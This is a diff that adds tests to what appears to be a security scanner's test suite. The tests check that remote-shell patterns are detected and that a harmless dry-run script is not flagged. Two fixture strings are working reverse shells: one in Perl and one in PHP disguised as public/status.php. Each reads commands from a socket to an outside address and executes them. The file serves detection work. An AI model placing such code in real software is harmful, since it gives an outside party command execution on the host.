@@ -513,3 +513,38 @@ def test_go_reading_its_own_config_under_home_is_no_secret(tmp_path: Path) -> No
         "}\n"
     )
     assert Kind.SECRET_READ not in kinds(tmp_path, "scripts/lintr/main.go", source)
+
+
+def test_perl_lines_read_from_a_socket_and_run_in_backticks_are_a_remote_shell(tmp_path: Path) -> None:
+    source = (
+        "use IO::Socket::INET;\n"
+        'my $s = IO::Socket::INET->new(PeerAddr => "192.0.2.33:8443");\n'
+        "while (my $c = <$s>) {\n"
+        "    print $s `$c`;\n"
+        "}\n"
+    )
+    found = analyse_file(tmp_path, "scripts/tail.pl", source, Language.SCRIPTING)
+    assert (Kind.RAW_SOCKET, "192.0.2.33 (remote shell)") in summary(found)
+
+
+def test_php_fgets_from_a_socket_given_to_shell_exec_is_a_remote_shell(tmp_path: Path) -> None:
+    source = (
+        "<?php\n"
+        '$sock = fsockopen("203.0.113.3", 7001);\n'
+        "while (!feof($sock)) {\n"
+        "    $cmd = fgets($sock);\n"
+        "    fwrite($sock, shell_exec($cmd));\n"
+        "}\n"
+    )
+    assert Kind.RAW_SOCKET in kinds(tmp_path, "public/status.php", source)
+
+
+def test_perl_lines_read_from_a_file_and_printed_are_no_remote_shell(tmp_path: Path) -> None:
+    source = (
+        "open(my $fh, '<', 'commands.txt') or die;\n"
+        "while (my $line = <$fh>) {\n"
+        "    chomp $line;\n"
+        '    print "would run: $line\\n";\n'
+        "}\n"
+    )
+    assert kinds(tmp_path, "scripts/dry_run.pl", source) == set()
